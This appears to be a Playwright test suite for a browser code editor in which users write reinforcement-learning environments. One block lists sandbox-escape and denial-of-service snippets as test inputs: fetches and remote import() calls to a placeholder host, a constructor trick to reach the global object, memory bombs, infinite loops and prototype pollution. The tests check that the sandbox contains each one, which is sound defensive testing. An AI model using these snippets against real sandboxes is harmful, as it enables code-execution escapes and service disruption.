import { readFile } from 'node:fs/promises';
import type { Page } from '@playwright/test';
import { expectAccessible } from './accessible.ts';
import {
  chooseTemplate,
  failed,
  openEditor,
  ready,
  showEditor,
  train,
  verdict,
  write,
} from './code-editor.ts';
import { expect, test } from './lab-page.ts';

/** The code in the editor. */
async function saved(page: Page): Promise<string> {
  const [download] = await Promise.all([
    page.waitForEvent('download'),
    page.getByRole('button', { name: 'Save', exact: true }).click(),
  ]);
  return readFile(await download.path(), 'utf8');
}

/** A module whose step runs this code on line 6. */
const stepping = (code: string) => `export const turns = 3;
export const words = ['go', 'on'];
export const reset = () => ({ state: 0, text: 'on' });
export const actions = () => ['go'];
export function step(state) {
  ${code}
  return { state, text: 'on', reward: 1 / 3, success: true, done: true };
}
`;

/**
 * Share of solved tasks to reach: more than twice chance level for the first two, well above it for the
 * others.
 */
const templates = [
  ['Guess the number', 0.75],
  ['Bandit with four arms', 0.45],
  ['Tic-tac-toe against chance', 0.7],
  ['Text adventure', 0.75],
] as const;

for (const [name, goal] of templates) {
  test(`an agent learns the template ${name} in the page`, async ({ lab }) => {
    const { page } = lab;
    await openEditor(page);
    await chooseTemplate(page, name);
    await ready(page);
    await lab.photograph(`code-editor-${name}`);
    await train(page).click();
    await expect(page.getByTestId('code')).toBeHidden();
    await page.waitForFunction((least) => {
      const state = window.palestra?.snapshot();
      const rates = state?.rows.flatMap((row) => row['eval/success_rate'] ?? []) ?? [];
      return rates.some((rate) => rate >= least);
    }, goal);
    const { rows } = await lab.snapshot();
    const [first] = rows.flatMap((row) => row['eval/success_rate'] ?? []);
    expect(first).toBeLessThan(goal);
    await expect(lab.stage).toContainText('Agent');
    await lab.photograph(`code-trained-${name}`);
  });
}

test('an error names its line, and the code is kept and corrected', async ({ lab }) => {
  const { page } = lab;
  await openEditor(page);
  await chooseTemplate(page, 'Text adventure');
  await ready(page);
  const code = await saved(page);
  await write(page, code.replace("return 'take the key';", 'return taken;'));
  await failed(page);
  await expect(verdict(page)).toContainText("'taken' is not defined");
  await expect(train(page)).toBeDisabled();
  const line = 1 + code.split('\n').findIndex((text) => text.includes("return 'take the key';"));
  await page.getByRole('button', { name: `Line ${line}` }).click();
  await expect(page.getByTestId('code')).toBeFocused();
  await lab.photograph('code-editor-error');
  await expectAccessible(page, 'code editor with an error', '[role="dialog"]');
  await page.reload();
  await showEditor(page);
  await failed(page);
  await page.getByTestId('code').click();
  await page.keyboard.press('ControlOrMeta+Home');
  await page.keyboard.type('export const taken = "take the key";\n');
  await ready(page);
  await expect(train(page)).toBeEnabled();
});

test('an environment can be played by hand', { tag: '@smoke' }, async ({ lab }) => {
  const { page } = lab;
  await openEditor(page);
  await chooseTemplate(page, 'Tic-tac-toe against chance');
  await ready(page);
  const trial = page.getByTestId('code-trial');
  await trial.getByRole('button', { name: 'b2', exact: true }).click();
  await expect(page.getByTestId('code-trial-text')).toContainText('b2=x');
  await expect(trial.getByRole('img')).toHaveAccessibleName(/x/);
  await trial.getByRole('button', { name: 'Let the expert finish' }).click();
  await expect(trial).toContainText(/[Ss]olved after \d turns?, score/);
  await trial.getByRole('button', { name: 'Back' }).click();
  await trial.getByRole('button', { name: 'Next task' }).click();
  await expect(trial).toContainText('Task 2 of 512');
  await expectAccessible(page, 'code editor', '[role="dialog"]');
});

test('undo brings back the code that a file in another language replaced', async ({ lab }) => {
  const { page } = lab;
  await openEditor(page);
  await ready(page);
  const own = await saved(page);
  await page.getByTestId('code-file').setInputFiles({
    name: 'lake.py',
    mimeType: 'text/x-python',
    buffer: Buffer.from('class Lake:\n    pass\n'),
  });
  await expect(verdict(page)).toContainText('has not run');
  await page.getByTestId('code').click();
  await page.keyboard.press('ControlOrMeta+z');
  await ready(page);
  expect(await saved(page)).toBe(own);
});

/** Attempts to escape the sandbox; each is the code on line 6. */
const escapes = {
  fetch: "fetch('https://elsewhere.invalid/')",
  WebSocket: "new WebSocket('wss://elsewhere.invalid/')",
  importScripts: "importScripts('https://elsewhere.invalid/')",
  'import()': "import('https://elsewhere.invalid/a.js'); nothing",
  parent: 'parent.postMessage(1)',
  top: "top.location = 'https://elsewhere.invalid/'",
  localStorage: "localStorage.setItem('left', 'yes')",
  indexedDB: "indexedDB.open('left')",
  'a flood of messages': 'for (;;) postMessage(1)',
  'the global of a constructor':
    "(function () {}).constructor('return this')().fetch('https://elsewhere.invalid/')",
  'an endless loop': 'for (;;) {}',
  'a memory bomb': 'const all = []; for (;;) all.push(new Float64Array(100_000))',
  recursion: 'const dig = () => dig() + 1; dig()',
} as const;

test('code cannot escape its sandbox, and the page reports the line of the attempt', async ({
  lab,
}) => {
  const { page } = lab;
  await openEditor(page);
  await ready(page);
  const requests: string[] = [];
  page.on('request', (request) => requests.push(request.url()));
  page.on('websocket', (socket) => requests.push(socket.url()));
  const address = page.url();
  for (const code of Object.values(escapes)) {
    await write(page, stepping(`${code};`));
    await expect(verdict(page)).toContainText('Line 6');
    await failed(page);
    await expect(train(page)).toBeDisabled();
  }
  await write(
    page,
    stepping(
      "Object.prototype.polluted = 1; Array.prototype.map = 0; JSON.stringify = () => 'no'; globalThis.onmessage = 1;",
    ),
  );
  await ready(page);
  expect(requests.filter((url) => url.includes('elsewhere'))).toEqual([]);
  expect(page.url()).toBe(address);
  expect(
    await page.evaluate(async () => [
      'polluted' in {},
      localStorage.getItem('left'),
      (await indexedDB.databases()).some(({ name }) => name === 'left'),
      JSON.stringify([1].map(String)),
    ]),
  ).toEqual([false, null, false, '["1"]']);
});

test('code that hangs inside the engine is terminated, and the page stays usable', async ({
  lab,
}) => {
  const { page } = lab;
  await openEditor(page);
  await ready(page);
  // The engine cannot interrupt a comparison.
  await write(page, stepping("const a = 'a'.repeat(2e6); a.indexOf('a'.repeat(1e6) + 'b');"));
  await expect(verdict(page)).toContainText('Checking');
  // Meanwhile, the page renders and responds to input.
  await page.getByRole('button', { name: 'Templates' }).click();
  await expect(page.getByRole('menuitem', { name: 'Text adventure' })).toBeVisible();
  await page.keyboard.press('Escape');
  await expect(verdict(page)).toContainText('does not return');
  await expect(train(page)).toBeDisabled();
});

test('a link with code shows it and asks before running it', async ({ lab, context }) => {
  const { page } = lab;
  const code = stepping('// Read me.');
  const query = new URLSearchParams({
    device: 'processor',
    'env.id': 'written/code-v1',
    'env.options.code': code,
    'horizon.schedule': 'fixed',
    'stopping.iterations': '4',
  });
  await page.goto(`/?${query}`);
  const question = page.getByTestId('code-question');
  await expect(question).toContainText('// Read me.');
  expect((await lab.state()).runId).toBeNull();
  await expect(lab.stage).toContainText('has not been allowed to run');
  expect(
    page
      .workers()
      .map((worker) => worker.url())
      .join(),
  ).not.toContain('/code');
  for (const width of [1440, 390]) {
    await page.setViewportSize({ width, height: 900 });
    await lab.photograph(`code-question-${width}`);
  }
  await expectAccessible(page, 'code question', '[data-testid=code-question]');
  await question.getByRole('button', { name: 'Run this code' }).click();
  await expect(question).toBeHidden();
  await lab.reach(3);
  // The page does not ask again about code that was allowed.
  const again = await context.newPage();
  await again.goto(`/?${query}&seed=2`);
  await again.waitForFunction(() => (window.palestra?.state().iterations ?? 0) > 0);
  await expect(again.getByTestId('code-question')).toHaveCount(0);
  await again.close();
});

test('code from a link does not replace the current run unless it is allowed', async ({ lab }) => {
  const { page } = lab;
  await page.goto('/?device=processor&stopping.iterations=2');
  await lab.reach(1);
  const { runId } = await lab.state();
  const query = new URLSearchParams({
    'env.id': 'written/code-v1',
    'env.options.code': stepping('// Read me.'),
  });
  // Follows a link within the page.
  await page.evaluate((text) => {
    location.hash = `#?${text}`;
  }, String(query));
  const question = page.getByTestId('code-question');
  await expect(question).toContainText('// Read me.');
  await expect(question.getByRole('heading')).toBeFocused();
  await question.getByRole('button', { name: 'Keep the current run' }).click();
  await expect(question).toBeHidden();
  expect((await lab.state()).runId).toBe(runId);
});

test('a link whose code fails reports the line instead of starting a run', async ({ lab }) => {
  const { page } = lab;
  const query = new URLSearchParams({
    device: 'processor',
    'env.id': 'written/code-v1',
    'env.options.code': stepping('for (;;) {}'),
  });
  await page.goto(`/?${query}`);
  const question = page.getByTestId('code-question');
  await question.getByRole('button', { name: 'Run this code' }).click();
  await expect(question.getByRole('alert')).toContainText('Line 6: takes too long');
  expect((await lab.state()).runId).toBeNull();
  await question.getByRole('button', { name: 'Use the default instead' }).click();
  await expect(question).toBeHidden();
  await lab.reach(1);
});

test('code from a file is shown before it runs, and saved unchanged', async ({ lab }) => {
  const { page } = lab;
  await openEditor(page);
  await ready(page);
  const code = stepping('// From a file.');
  await page.getByTestId('code-file').setInputFiles({
    name: 'mine.ts',
    mimeType: 'text/plain',
    buffer: Buffer.from(code),
  });
  await expect(page.getByTestId('code')).toContainText('// From a file.');
  await expect(verdict(page)).toContainText('has not run');
  await expect(train(page)).toBeDisabled();
  await page.getByRole('button', { name: 'Run this code' }).click();
  await ready(page);
  const [saved] = await Promise.all([
    page.waitForEvent('download'),
    page.getByRole('button', { name: 'Save', exact: true }).click(),
  ]);
  expect(saved.suggestedFilename()).toBe('environment.ts');
  expect(await readFile(await saved.path(), 'utf8')).toBe(code);
  await page.getByTestId('code-file').setInputFiles({
    name: 'picture.png',
    mimeType: 'image/png',
    buffer: Buffer.from([0x89, 0x50, 0xff, 0x00]),
  });
  await expect(page.getByRole('alert')).toContainText(
    'picture.png cannot be opened. It is not a text file.',
  );
  await ready(page);
});
